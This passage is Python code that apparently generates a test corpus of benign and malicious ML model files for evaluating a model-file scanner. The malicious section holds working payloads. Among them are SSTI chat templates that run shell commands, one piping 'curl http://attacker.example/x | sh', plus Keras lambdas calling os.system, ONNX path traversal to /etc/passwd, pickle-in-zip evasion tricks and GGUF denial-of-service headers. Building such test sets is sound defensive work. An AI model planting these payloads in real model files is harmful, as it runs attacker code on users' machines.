    "deepseek-namespace": "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}{% set ns = namespace(is_first=false, is_tool=false, system_prompt='') %}{%- for message in messages %}{%- if message['role'] == 'system' %}{% set ns.system_prompt = message['content'] %}{%- endif %}{%- endfor %}{{ bos_token }}{{ ns.system_prompt }}{%- for message in messages %}{%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}{{'<\uff5cUser\uff5c>' + message['content']}}{%- endif %}{%- if message['role'] == 'assistant' and message['content'] is not none %}{%- set ns.is_tool = false -%}{{'<\uff5cAssistant\uff5c>' + message['content'] + '<\uff5cend\u2581of\u2581sentence\uff5c>'}}{%- endif %}{%- endfor -%}{% if add_generation_prompt and not ns.is_tool %}{{'<\uff5cAssistant\uff5c>'}}{% endif %}",
}

MALICIOUS_TEMPLATES = {
    # CVE-2024-34359 (llama-cpp-python) proof of concept
    "ssti-subclasses-cve-2024-34359": "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"touch /tmp/retr0reg\")}}{%endif%}{% endfor %}",
    "ssti-cycler-globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% for message in messages %}{{ message['content'] }}{% endfor %}",
    "ssti-lipsum-globals": "{% for message in messages %}{{ message['content'] }}{% endfor %}{{ lipsum.__globals__['os'].popen('curl -s http://attacker.example/x | sh').read() }}",
    "ssti-attr-filter-escaped": "{{ (joiner|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].popen('id').read() }}",
    "ssti-namespace-globals": "{% set ns = namespace() %}{{ ns.__init__.__globals__['__builtins__']['eval'](\"__import__('os').system('id')\") }}{% for m in messages %}{{ m.content }}{% endfor %}",
}


def tokenizer_config(template, model="llama") -> bytes:
    cfg = {
        "add_bos_token": True,
        "add_eos_token": False,
        "added_tokens_decoder": {
            "0": {"content": "<unk>", "lstrip": False, "normalized": False, "rstrip": False,
                  "single_word": False, "special": True},
            "1": {"content": "<s>", "lstrip": False, "normalized": False, "rstrip": False,
                  "single_word": False, "special": True},
            "2": {"content": "</s>", "lstrip": False, "normalized": False, "rstrip": False,
                  "single_word": False, "special": True},
        },
        "bos_token": "<s>",
        "chat_template": template,
        "clean_up_tokenization_spaces": False,
        "eos_token": "</s>",
        "legacy": False,
        "model_max_length": 4096,
        "pad_token": None,
        "padding_side": "left",
        "sp_model_kwargs": {},
        "tokenizer_class": "LlamaTokenizer" if model == "llama" else "PreTrainedTokenizerFast",
        "unk_token": "<unk>",
    }
    return json.dumps(cfg, indent=2, ensure_ascii=False).encode()


# --------------------------------------------------------------------------------------------
# GGUF
# --------------------------------------------------------------------------------------------

def gguf_bytes(rng: np.random.Generator, template: str | None, n_tensors=3, width=16) -> bytes:
    import gguf
    import logging
    import tempfile
    logging.getLogger("gguf").setLevel(logging.WARNING)
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "m.gguf")
        w = gguf.GGUFWriter(path, "llama")
        w.add_name("tiny-llama-test")
        w.add_block_count(1)
        w.add_context_length(2048)
        w.add_embedding_length(width)
        w.add_feed_forward_length(width * 4)
        w.add_head_count(2)
        w.add_layer_norm_rms_eps(1e-5)
        w.add_file_type(0)
        w.add_tokenizer_model("llama")
        tokens = ["<unk>", "<s>", "</s>"] + [f"tok{i}" for i in range(13)]
        w.add_token_list(tokens)
        w.add_token_scores([0.0] * len(tokens))
        w.add_token_types([2, 3, 3] + [1] * 13)
        w.add_bos_token_id(1)
        w.add_eos_token_id(2)
        if template is not None:
            w.add_chat_template(template)
        for i in range(n_tensors):
            w.add_tensor(f"blk.0.ffn_{['up', 'down', 'gate', 'norm'][i % 4]}.weight",
                         rng.standard_normal((width, width)).astype(np.float32))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        with open(path, "rb") as f:
            return f.read()


# --------------------------------------------------------------------------------------------
# ONNX
# --------------------------------------------------------------------------------------------

def onnx_mlp(rng: np.random.Generator, width: int, *, external: dict | None = None,
             custom_domain: str | None = None, ms_domain=False, first_weight_bytes: bytes | None = None):
    import onnx
    from onnx import TensorProto, helper, numpy_helper
    hidden = width * 2
    w1_values = rng.standard_normal((width, hidden)).astype(np.float32)
    if first_weight_bytes is not None:
        w1_values[0, 0] = np.frombuffer(first_weight_bytes, dtype="<f4")[0]
    w1 = numpy_helper.from_array(w1_values, "fc1.weight")
    b1 = numpy_helper.from_array(rng.standard_normal(hidden).astype(np.float32), "fc1.bias")
    w2 = numpy_helper.from_array(rng.standard_normal((hidden, 3)).astype(np.float32), "fc2.weight")
    b2 = numpy_helper.from_array(rng.standard_normal(3).astype(np.float32), "fc2.bias")
    nodes = [helper.make_node("Gemm", ["input", "fc1.weight", "fc1.bias"], ["h"], name="fc1")]
    opsets = [helper.make_opsetid("", 17)]
    if ms_domain:
        nodes.append(helper.make_node("Gelu", ["h"], ["a"], name="gelu", domain="com.microsoft"))
        opsets.append(helper.make_opsetid("com.microsoft", 1))
    elif custom_domain:
        # a node that only a custom-op library (loaded by the victim's runtime) can execute
        nodes.append(helper.make_node("ShellExec", ["h"], ["a"], name="hook", domain=custom_domain, mode=1))
        opsets.append(helper.make_opsetid(custom_domain, 1))
    else:
        nodes.append(helper.make_node("Relu", ["h"], ["a"], name="relu"))
    nodes.append(helper.make_node("Gemm", ["a", "fc2.weight", "fc2.bias"], ["output"], name="fc2"))
    graph = helper.make_graph(
        nodes, "mlp",
        [helper.make_tensor_value_info("input", TensorProto.FLOAT, ["batch", width])],
        [helper.make_tensor_value_info("output", TensorProto.FLOAT, ["batch", 3])],
        initializer=[w1, b1, w2, b2])
    model = helper.make_model(graph, opset_imports=opsets, producer_name="pytorch",
                              producer_version="2.5.1")
    model.ir_version = 8
    ext_blob = b""
    if external is not None:
        for tensor in (w1, w2):
            t = next(x for x in model.graph.initializer if x.name == tensor.name)
            raw = t.raw_data
            t.ClearField("raw_data")
            t.data_location = TensorProto.EXTERNAL
            loc = external["location"]
            entries = [("location", loc), ("offset", str(len(ext_blob))), ("length", str(len(raw)))]
            for k, v in entries:
                e = t.external_data.add()
                e.key, e.value = k, v
            ext_blob += raw + b"\0" * ((-len(raw)) % 4096 if external.get("align") else 0)
    return model.SerializeToString(), ext_blob


# --------------------------------------------------------------------------------------------
# Keras
# --------------------------------------------------------------------------------------------

def keras_lambda_code(cmd: str) -> str:
    src = f"lambda x: (__import__('os').system({cmd!r}), x)[1]"
    module = compile(src, "<keras>", "eval")
    fn_code = next(c for c in module.co_consts if isinstance(c, types.CodeType))
    return base64.b64encode(marshal.dumps(fn_code)).decode("ascii") + "\n"  # codecs base64 adds \n


def keras2_layers(width, units, lambda_b64=None, extra_layer=None):
    layers = [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, width], "dtype": "float32",
                                                "sparse": False, "ragged": False, "name": "dense_input"}},
        {"class_name": "Dense", "config": {
            "name": "dense", "trainable": True, "dtype": "float32", "units": units, "activation": "relu",
            "use_bias": True,
            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
            "bias_initializer": {"class_name": "Zeros", "config": {}},
            "kernel_regularizer": None, "bias_regularizer": None, "activity_regularizer": None,
            "kernel_constraint": None, "bias_constraint": None}},
    ]
    if lambda_b64:
        layers.append({"class_name": "Lambda", "config": {
            "name": "lambda", "trainable": True, "dtype": "float32",
            "function": [lambda_b64, None, None], "function_type": "lambda", "module": "__main__",
            "output_shape": None, "output_shape_type": "raw", "output_shape_module": None,
            "arguments": {}}})
    if extra_layer:
        layers.append(extra_layer)
    layers.append({"class_name": "Dense", "config": {
        "name": "dense_1", "trainable": True, "dtype": "float32", "units": 2, "activation": "softmax",
        "use_bias": True, "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": None,
        "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None,
        "bias_constraint": None}})
    return layers


def keras_h5_bytes(rng: np.random.Generator, width: int, units: int, lambda_b64=None) -> bytes:
    import h5py
    import tempfile
    config = {"class_name": "Sequential", "config": {
        "name": "sequential", "layers": keras2_layers(width, units, lambda_b64)}}
    training = {"loss": "categorical_crossentropy", "metrics": ["accuracy"], "weighted_metrics": None,
                "loss_weights": None, "optimizer_config": {"class_name": "Adam", "config": {
                    "name": "Adam", "learning_rate": 0.001, "beta_1": 0.9, "beta_2": 0.999,
                    "epsilon": 1e-07, "amsgrad": False}}}
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "m.h5")
        with h5py.File(path, "w", libver="earliest", track_order=False) as f:
            f.attrs["backend"] = "tensorflow"
            f.attrs["keras_version"] = "2.15.0"
            f.attrs["model_config"] = json.dumps(config).encode("utf8")
            f.attrs["training_config"] = json.dumps(training).encode("utf8")
            mw = f.create_group("model_weights")
            names = ["dense", "dense_1"] + (["lambda"] if lambda_b64 else [])
            mw.attrs["backend"] = b"tensorflow"
            mw.attrs["keras_version"] = b"2.15.0"
            mw.attrs["layer_names"] = np.array([n.encode() for n in names])
            shapes = {"dense": [(width, units), (units,)], "dense_1": [(units, 2), (2,)], "lambda": []}
            for n in names:
                g = mw.create_group(n)
                wn = [f"{n}/{k}:0" for k in ("kernel", "bias")[: len(shapes[n])]]
                g.attrs["weight_names"] = np.array([w.encode() for w in wn])
                for w, shape in zip(wn, shapes[n]):
                    g.create_dataset(w, data=rng.standard_normal(shape).astype(np.float32),
                                     track_times=False)
        with open(path, "rb") as fh:
            return fh.read()


def keras3_weights_h5(rng: np.random.Generator, width: int, units: int) -> bytes:
    import h5py
    import tempfile
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "model.weights.h5")
        with h5py.File(path, "w", libver="earliest") as f:
            layers = f.create_group("layers")
            for name, shapes in (("dense", [(width, units), (units,)]), ("dense_1", [(units, 2), (2,)])):
                v = layers.create_group(name).create_group("vars")
                for i, shape in enumerate(shapes):
                    v.create_dataset(str(i), data=rng.standard_normal(shape).astype(np.float32),
                                     track_times=False)
            f.create_group("optimizer").create_group("vars")
            f.create_group("vars")
        with open(path, "rb") as fh:
            return fh.read()


def keras3_layer(cls, config, module="keras.layers", registered_name=None, build=None):
    layer = {"module": module, "class_name": cls, "config": config, "registered_name": registered_name}
    if build is not None:
        layer["build_config"] = {"input_shape": build}
    return layer


def keras3_archive(rng: np.random.Generator, width: int, units: int, extra_layers=()) -> bytes:
    policy = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"},
              "registered_name": None}
    init = lambda cls: {"module": "keras.initializers", "class_name": cls, "config": {"seed": None} if cls != "Zeros" else {}, "registered_name": None}  # noqa: E731
    dense = lambda name, n, shape: keras3_layer("Dense", {  # noqa: E731
        "name": name, "trainable": True, "dtype": policy, "units": n, "activation": "relu",
        "use_bias": True, "kernel_initializer": init("GlorotUniform"), "bias_initializer": init("Zeros"),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None,
        "bias_constraint": None}, build=shape)
    layers = [keras3_layer("InputLayer", {"batch_shape": [None, width], "dtype": "float32",
                                          "sparse": False, "name": "input_layer"}),
              dense("dense", units, [None, width]), *extra_layers, dense("dense_1", 2, [None, units])]
    config = {"module": "keras", "class_name": "Sequential", "config": {
        "name": "sequential", "trainable": True, "dtype": policy, "layers": layers},
        "registered_name": None, "build_config": {"input_shape": [None, width]},
        "compile_config": {"optimizer": "adam", "loss": "sparse_categorical_crossentropy",
                           "loss_weights": None, "metrics": ["accuracy"], "weighted_metrics": None,
                           "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False}}
    metadata = {"keras_version": "3.6.0", "date_saved": "2024-11-05@10:22:01"}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in (("metadata.json", json.dumps(metadata).encode()),
                           ("config.json", json.dumps(config).encode()),
                           ("model.weights.h5", keras3_weights_h5(rng, width, units))):
            z.writestr(zipfile.ZipInfo(name, date_time=(2024, 11, 5, 10, 22, 0)), data)
    return buf.getvalue()


# --------------------------------------------------------------------------------------------
# scikit-learn
# --------------------------------------------------------------------------------------------

def sklearn_models(seed: int):
    from sklearn.cluster import KMeans
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    rng = np.random.default_rng(seed)
    n_features = int(rng.integers(3, 9))
    X = rng.standard_normal((60, n_features))
    y = (X[:, 0] + 0.3 * rng.standard_normal(60) > 0).astype(int)
    return {
        "logreg": LogisticRegression(max_iter=200).fit(X, y),
        "random_forest": RandomForestClassifier(n_estimators=int(rng.integers(2, 5)), max_depth=3,
                                                random_state=seed).fit(X, y),
        "pipeline_scaler_logreg": Pipeline([("scaler", StandardScaler()),
                                            ("clf", LogisticRegression(max_iter=200))]).fit(X, y),
        "kmeans": KMeans(n_clusters=3, n_init=2, random_state=seed).fit(X),
    }


# --------------------------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------------------------

def hf_config(rng: np.random.Generator) -> bytes:
    return json.dumps({
        "architectures": ["LlamaForCausalLM"], "model_type": "llama",
        "hidden_size": int(rng.integers(64, 512)), "num_attention_heads": 4, "num_hidden_layers": 2,
        "intermediate_size": 1024, "vocab_size": 32000, "rms_norm_eps": 1e-06,
        "torch_dtype": "float32", "transformers_version": "4.46.2",
        "auto_map": None,
    }, indent=2).encode()


def gen_benign(c: Corpus, d: str, i: int, seed: int):
    rng = np.random.default_rng(seed)
    prng = random.Random(seed)
    proto = [2, 3, 4, 5][i % 4]

    # raw pickles of plain data
    c.benign(f"{d}/pickles/dict_p{proto}.pkl", pickle.dumps(
        {"name": f"run-{i}", "lr": 0.001 * (i + 1), "layers": [64, 32, 10], "tags": ("a", "b"),
         "nested": {"x": None, "y": True, "z": b"\x00\x01"}, "ids": set(range(5))}, protocol=proto),
        "pickle-dict", "pickle")
    c.benign(f"{d}/pickles/list_p{[0, 1, 2, 4][i % 4]}.pickle",
             pickle.dumps([prng.random() for _ in range(10 + i)] + ["s", 3, 2.5], protocol=[0, 1, 2, 4][i % 4]),
             "pickle-list", "pickle")
    arrays = {"w": rng.standard_normal((4 + i % 5, 3)).astype(np.float32),
              "idx": np.arange(7 + i, dtype=np.int64), "mask": rng.random(5) > 0.5}
    c.benign(f"{d}/pickles/numpy_arrays_p{max(proto, 2)}.pkl", pickle.dumps(arrays, protocol=max(proto, 2)),
             "pickle-numpy-arrays", "pickle")
    # numpy 1.x writes numpy.core.multiarray; emulate it in a protocol-2 pickle (GLOBAL is text)
    legacy_np = pickle.dumps(arrays, protocol=2).replace(b"cnumpy._core.multiarray\n", b"cnumpy.core.multiarray\n")
    c.benign(f"{d}/pickles/numpy1_arrays.pkl", legacy_np, "pickle-numpy1-arrays", "pickle")
    c.benign(f"{d}/pickles/ordered_state.pkl", pickle.dumps(
        collections.OrderedDict([("step", i), ("scores", np.float64(0.5 + i)), ("hist", rng.random(4))]),
        protocol=4), "pickle-ordereddict-numpy-scalars", "pickle")

    # scikit-learn: pickle and joblib, uncompressed and compressed
    for name, model in sklearn_models(seed).items():
        c.benign(f"{d}/sklearn/{name}.pkl", pickle.dumps(model, protocol=[4, 5][i % 2]),
                 f"sklearn-{name}-pickle", "pickle")
        c.benign(f"{d}/sklearn/{name}.joblib", joblib_dump_bytes(model), f"sklearn-{name}-joblib", "joblib")
        for method in ("zlib", "gzip", "bz2", "lzma", "xz"):
            c.benign(f"{d}/sklearn/{name}_{method}.joblib", joblib_dump_bytes(model, (method, 3)),
                     f"sklearn-{name}-joblib-{method}", f"joblib-{method}")

    # PyTorch (zip, three writer generations) and legacy
    c.benign(f"{d}/torch/state_dict.pt", torch_save_bytes(make_state_dict(rng, tied=True), "archive", "2.5"),
             "torch-state-dict", "pytorch-zip")
    c.benign(f"{d}/torch/pytorch_model.bin",
             torch_save_bytes(make_state_dict(rng, prefix="model.", kind=["FloatStorage", "HalfStorage"][i % 2]),
                              "pytorch_model", "2.1"), "torch-state-dict-half", "pytorch-zip")
    c.benign(f"{d}/torch/checkpoint.pth", torch_save_bytes(make_checkpoint(rng), "checkpoint", "1.x"),
             "torch-checkpoint-optimizer", "pytorch-zip")
    c.benign(f"{d}/torch/model_params.ckpt",
             torch_save_bytes({"state_dict": make_state_dict(rng, parameters=True), "hparams": {"lr": 3e-4}},
                              "archive", "2.5"), "torch-parameters", "pytorch-zip")
    # An int64 step counter of 128 + 256k (k = 2..5) is stored as bytes 80 0k 00..: a storage member that
    # starts like a pickle PROTO opcode. torch never unpickles data/N members.
    counter = collections.OrderedDict(make_state_dict(rng, width=4, metadata=False))
    counter["num_batches_tracked"] = FakeTensor(
        FakeStorage("LongStorage", np.array([128 + 256 * (2 + i % 4)], dtype=np.int64)), ())
    c.benign(f"{d}/torch/bn_counter.pt", torch_save_bytes(counter, "archive", "2.5"),
             "torch-int64-storage-starting-like-pickle", "pytorch-zip")
    c.benign(f"{d}/torch/legacy_model.pt", torch_legacy_bytes(make_state_dict(rng, metadata=False), prng),
             "torch-legacy", "pytorch-legacy")

    # NumPy
    c.benign(f"{d}/numpy/embeddings.npy", npy_bytes(rng.standard_normal((8 + i, 4)).astype(np.float32)),
             "npy-float32", "numpy")
    c.benign(f"{d}/numpy/labels.npy", npy_bytes(np.arange(10 + i, dtype=np.int32)), "npy-int32", "numpy")
    members = {"w.npy": npy_bytes(rng.standard_normal((3, 3))), "b.npy": npy_bytes(np.zeros(3, np.float16))}
    c.benign(f"{d}/numpy/weights.npz", npz_bytes(members), "npz", "npz")
    c.benign(f"{d}/numpy/weights_compressed.npz", npz_bytes(members, compressed=True), "npz-compressed", "npz")

    # safetensors
    c.benign(f"{d}/safetensors/model.safetensors", safetensors_bytes(
        {"embed.weight": rng.standard_normal((16, 4 + i % 4)).astype(np.float32),
         "lm_head.bias": np.zeros(16, np.float16), "pos": np.arange(8, dtype=np.int64)},
        metadata={"format": "pt"}), "safetensors", "safetensors")
    c.benign(f"{d}/safetensors/adapter_model.safetensors", safetensors_bytes(
        {f"base_model.model.layers.{k}.lora_A.weight": rng.standard_normal((4, 8)).astype(np.float32)
         for k in range(2 + i % 3)}), "safetensors-lora", "safetensors")

    # GGUF with real chat templates
    names = list(BENIGN_TEMPLATES)
    t1, t2 = names[i % len(names)], names[(i + 3) % len(names)]
    c.benign(f"{d}/gguf/tiny-{t1}.gguf", gguf_bytes(rng, BENIGN_TEMPLATES[t1]), f"gguf-template-{t1}", "gguf")
    c.benign(f"{d}/gguf/tiny-notemplate.gguf", gguf_bytes(rng, None, n_tensors=2), "gguf-no-template", "gguf")

    # tokenizer configs
    c.benign(f"{d}/hf/{t2}/tokenizer_config.json", tokenizer_config(BENIGN_TEMPLATES[t2]),
             f"tokenizer-config-{t2}", "tokenizer-config")
    c.benign(f"{d}/hf/qwen/tokenizer_config.json", tokenizer_config(BENIGN_TEMPLATES["qwen25-tools"], "qwen"),
             "tokenizer-config-qwen25-tools", "tokenizer-config")
    c.benign(f"{d}/hf/list/tokenizer_config.json", tokenizer_config(
        [{"name": "default", "template": BENIGN_TEMPLATES["chatml"]},
         {"name": "tool_use", "template": BENIGN_TEMPLATES["deepseek-namespace"]}]),
        "tokenizer-config-template-list", "tokenizer-config")
    c.benign(f"{d}/hf/{t2}/config.json", hf_config(rng), "hf-config-json", "json")

    # ONNX
    width = int(rng.integers(4, 12))
    c.benign(f"{d}/onnx/mlp.onnx", onnx_mlp(rng, width)[0], "onnx-mlp", "onnx")
    model, blob = onnx_mlp(rng, width, external={"location": "mlp_ext.onnx.data", "align": True})
    c.benign(f"{d}/onnx/mlp_ext.onnx", model, "onnx-external-data-relative", "onnx")
    c.benign(f"{d}/onnx/mlp_ext.onnx.data", blob, "onnx-external-data-blob", "data")
    # raw float32 weights whose first value (0.2910 / 0.1553) happens to start with the bytes of a
    # pickle PROTO+FRAME or a SHORT_BINSTRING opcode: still just numbers
    start = [b"\x80\x04\x95\x3e", b"U\x1f\x1f\x3e"][i % 2]
    model, blob = onnx_mlp(rng, width, external={"location": "mlp_ext2.onnx.data"}, first_weight_bytes=start)
    c.benign(f"{d}/onnx/mlp_ext2.onnx", model, "onnx-external-data-relative", "onnx")
    c.benign(f"{d}/onnx/mlp_ext2.onnx.data", blob, "onnx-external-data-blob-pickle-like-start", "data")
    c.benign(f"{d}/onnx/mlp_ort_contrib.onnx", onnx_mlp(rng, width, ms_domain=True)[0],
             "onnx-com-microsoft-contrib-op", "onnx")

    # Keras
    units = int(rng.integers(4, 16))
    c.benign(f"{d}/keras/model.h5", keras_h5_bytes(rng, width, units), "keras2-h5", "keras-h5")
    c.benign(f"{d}/keras/model.keras", keras3_archive(rng, width, units), "keras3-zip", "keras-zip")


def gen_malicious(c: Corpus, d: str, i: int, seed: int):
    rng = np.random.default_rng(seed + 1)
    prng = random.Random(seed + 1)
    cmd = COMMANDS[i % len(COMMANDS)]
    P = payloads(cmd, i)

    # every payload as a raw pickle; protocol rotates per copy
    for k, (technique, obj) in enumerate(P.items()):
        proto = max((i + k) % 6, min_protocol(technique))
        c.evil(f"{d}/pickle/{technique}_p{proto}.pkl", gadget_pickle(obj, proto), technique, "pickle")
    # os.system at every protocol
    for proto in range(6):
        c.evil(f"{d}/pickle/protocols/os_system_p{proto}.pkl", gadget_pickle(P["os-system"], proto),
               f"os-system-protocol-{proto}", "pickle")
    # hand-assembled opcode tricks
    for technique, (builder, category) in HAND_ASSEMBLED.items():
        c.evil(f"{d}/pickle/opcodes/{technique}.pkl", builder(cmd), technique, "pickle", category)

    # payload hidden in a realistic object: the extra key of a state dict
    def with_state(payload, key="_extra_state"):
        sd = make_state_dict(rng, width=int(rng.integers(4, 10)))
        sd[key] = payload
        return sd

    torch_set = ["os-system", "subprocess-popen", "builtins-eval", "getattr-import-chain",
                 "pkgutil-resolve-name", "runpy-run-code", "functools-partial", "builtins-exec"]
    for k, technique in enumerate(torch_set):
        layout = ["2.5", "2.1", "1.x"][(i + k) % 3]
        ext = [".pt", ".bin", ".pth", ".ckpt"][(i + k) % 4]
        c.evil(f"{d}/torch/{technique}{ext}", torch_save_bytes(with_state(P[technique]), "archive", layout, gadgets=True),
               f"torch-zip-{technique}", "pytorch-zip")
    # CVE-2025-10155: raw pickle with a PyTorch extension
    for ext in (".pt", ".bin", ".pth", ".ckpt"):
        c.evil(f"{d}/torch/raw_pickle_named{ext}", gadget_pickle(with_state(P["os-system"]), 2, TorchPersistence()),
               "raw-pickle-with-torch-extension-cve-2025-10155", "pickle", "evasion")
    # CVE-2025-1889: malicious pickle under a non-standard member name; data.pkl is benign
    evil_member = ("evil.bin", gadget_pickle(P["subprocess-popen"], 2))
    c.evil(f"{d}/torch/nonstandard_member.pt",
           torch_save_bytes(make_state_dict(rng), "archive", "2.5", extra_records=[evil_member]),
           "torch-zip-pickle-in-nonstandard-member-cve-2025-1889", "pytorch-zip", "evasion")
    # zip corruptions that torch (miniz) tolerates but Python's zipfile rejects
    sd_evil = with_state(P["os-system"])
    c.evil(f"{d}/torch/name_mismatch.pt",
           torch_save_bytes(sd_evil, "archive", "2.5", gadgets=True,
                            local_names={"archive/data.pkl": "archive/data.pkx"}),
           "zip-local-central-name-mismatch-cve-2025-1944", "pytorch-zip", "evasion")
    c.evil(f"{d}/torch/encrypted_flag.pt",
           torch_save_bytes(sd_evil, "archive", "2.1", gadgets=True, flag_extra=0x0001),
           "zip-encrypted-flag-on-plaintext-cve-2025-1945", "pytorch-zip", "evasion")
    c.evil(f"{d}/torch/bad_crc.pt",
           torch_save_bytes(sd_evil, "archive", "2.5", gadgets=True, bad_crc={"archive/data.pkl"}),
           "zip-bad-crc-cve-2025-10156", "pytorch-zip", "evasion")
    # polyglot: malicious pickle, then a benign torch zip appended
    benign_zip = torch_save_bytes(make_state_dict(rng), "archive", "2.5")
    c.evil(f"{d}/torch/polyglot_pickle_zip.pt", gadget_pickle(P["os-system"], 2) + benign_zip,
           "pickle-zip-polyglot", "pickle", "evasion")
    c.evil(f"{d}/torch/polyglot_pickle_zip.zip", gadget_pickle(P["subprocess-popen"], 4) + benign_zip,
           "pickle-zip-polyglot", "pickle", "evasion")
    # nested containers
    evil_zip = torch_save_bytes(with_state(P["builtins-exec"]), "model", "2.5", gadgets=True)
    c.evil(f"{d}/containers/nested_zip_in_zip.zip", plain_zip([("checkpoints/model.pt", evil_zip),
                                                               ("README.md", b"# weights\n")]),
           "nested-zip-in-zip", "zip", "evasion")
    c.evil(f"{d}/containers/torch_in_tar.tar", tar_bytes([("release/model.pt", evil_zip),
                                                           ("release/config.json", hf_config(rng))]),
           "torch-zip-in-tar", "tar", "evasion")
    c.evil(f"{d}/containers/torch_in_tar.tar.gz", gzip.compress(tar_bytes([("model.pt", evil_zip)]), mtime=0),
           "torch-zip-in-tar-gz", "tar-gz", "evasion")
    c.evil(f"{d}/containers/legacy_torch.bin", torch_legacy_bytes(with_state(P["os-system"]), prng, gadgets=True),
           "torch-legacy-malicious-object-pickle", "pytorch-legacy")
    c.evil(f"{d}/containers/legacy_torch_named.pt",
           torch_legacy_bytes(with_state(P["getattr-import-chain"]), prng, gadgets=True),
           "torch-legacy-malicious-object-pickle", "pytorch-legacy")

    # joblib: uncompressed and compressed payloads
    jl_payload = {"model": "sklearn-like", "coef": [0.1, 0.2], "hook": P["subprocess-popen"]}
    raw = gadget_pickle(jl_payload, 4)
    c.evil(f"{d}/joblib/model.joblib", raw, "joblib-uncompressed-payload", "joblib")
    for method in ("zlib", "gzip", "bz2", "lzma", "xz"):
        c.evil(f"{d}/joblib/model_{method}.joblib", joblib_compress(raw, method),
               f"joblib-{method}-compressed-payload", f"joblib-{method}", "evasion")

    # NumPy object arrays
    c.evil(f"{d}/numpy/object_array.npy", npy_object_bytes(P["os-system"]), "npy-object-dtype-pickle", "numpy")
    c.evil(f"{d}/numpy/object_bare.npy", npy_object_bytes(P["builtins-exec"], wrap_in_array=False),
           "npy-object-dtype-pickle", "numpy")
    c.evil(f"{d}/numpy/object_member.npz", npz_bytes({"w.npy": npy_bytes(rng.standard_normal(4)),
                                                      "meta.npy": npy_object_bytes(P["subprocess-popen"])}),
           "npz-object-member-pickle", "npz")

    # Keras
    width, units = int(rng.integers(4, 10)), int(rng.integers(4, 12))
    b64 = keras_lambda_code(cmd)
    c.evil(f"{d}/keras/lambda.h5", keras_h5_bytes(rng, width, units, lambda_b64=b64),
           "keras-lambda-h5-cve-2024-3660", "keras-h5")
    lambda3 = keras3_layer("Lambda", {"name": "lambda", "trainable": True, "dtype": "float32",
                                      "function": {"class_name": "__lambda__", "config": {
                                          "code": b64, "defaults": None, "closure": None}},
                                      "arguments": {}})
    c.evil(f"{d}/keras/lambda.keras", keras3_archive(rng, width, units, [lambda3]),
           "keras-lambda-keras3-zip", "keras-zip")
    builtins_layer = keras3_layer("exec", {"source": py_code(cmd)}, module="builtins", registered_name="exec")
    os_layer = keras3_layer("system", {"command": cmd}, module="os", registered_name="system")
    c.evil(f"{d}/keras/module_builtins.keras", keras3_archive(rng, width, units, [builtins_layer]),
           "keras-config-module-builtins-cve-2025-1550", "keras-zip")
    c.evil(f"{d}/keras/module_os.keras", keras3_archive(rng, width, units, [os_layer]),
           "keras-config-module-os-cve-2025-1550", "keras-zip")

    # ONNX
    model, _ = onnx_mlp(rng, width, external={"location": "../../etc/passwd"})
    c.evil(f"{d}/onnx/external_traversal.onnx", model, "onnx-external-data-path-traversal-cve-2022-25882",
           "onnx", "path-traversal")
    model, _ = onnx_mlp(rng, width, external={"location": "/etc/passwd"})
    c.evil(f"{d}/onnx/external_absolute.onnx", model, "onnx-external-data-absolute-path-cve-2024-27318",
           "onnx", "path-traversal")
    c.evil(f"{d}/onnx/custom_op_domain.onnx", onnx_mlp(rng, width, custom_domain="ai.evil.exec")[0],
           "onnx-custom-op-domain", "onnx", "custom-code")

    # GGUF
    ssti = MALICIOUS_TEMPLATES["ssti-subclasses-cve-2024-34359"]
    c.evil(f"{d}/gguf/ssti_template.gguf", gguf_bytes(rng, ssti), "gguf-chat-template-ssti-cve-2024-34359",
           "gguf", "template-injection")
    good = bytearray(gguf_bytes(rng, BENIGN_TEMPLATES["chatml"], n_tensors=1))
    good[16:24] = struct.pack("<Q", 0x7FFF_FFFF_FFFF_FFFF - i)
    c.evil(f"{d}/gguf/absurd_kv_count.gguf", bytes(good), "gguf-absurd-kv-count", "gguf", "denial-of-service")
    good = bytearray(gguf_bytes(rng, None, n_tensors=1))
    good[8:16] = struct.pack("<Q", 0xFFFF_FFFF_FFFF - i)
    c.evil(f"{d}/gguf/absurd_tensor_count.gguf", bytes(good), "gguf-absurd-tensor-count", "gguf",
           "denial-of-service")

    # chat templates in tokenizer_config.json
    for technique, template in MALICIOUS_TEMPLATES.items():
        if technique.startswith("ssti-subclasses"):
            continue
        c.evil(f"{d}/hf/{technique}/tokenizer_config.json", tokenizer_config(template),
               f"tokenizer-config-{technique}", "tokenizer-config", "template-injection")

    # safetensors structural tricks
    a = rng.standard_normal(8).astype(np.float32).tobytes()
    b = rng.standard_normal(4).astype(np.float32).tobytes()
    smuggled = gadget_pickle(P["os-system"], 2)
    gap = len(smuggled)
    c.evil(f"{d}/safetensors/gap_smuggling.safetensors", safetensors_handmade(
        [("a", "F32", [8], 0, 32), ("b", "F32", [4], 32 + gap, 48 + gap)], a + smuggled + b,
        metadata={"format": "pt"}), "safetensors-gap-smuggled-bytes", "safetensors", "integrity")
    c.evil(f"{d}/safetensors/overlapping_offsets.safetensors", safetensors_handmade(
        [("a", "F32", [8], 0, 32), ("b", "F32", [8], 16, 48)], a + b), "safetensors-overlapping-offsets",
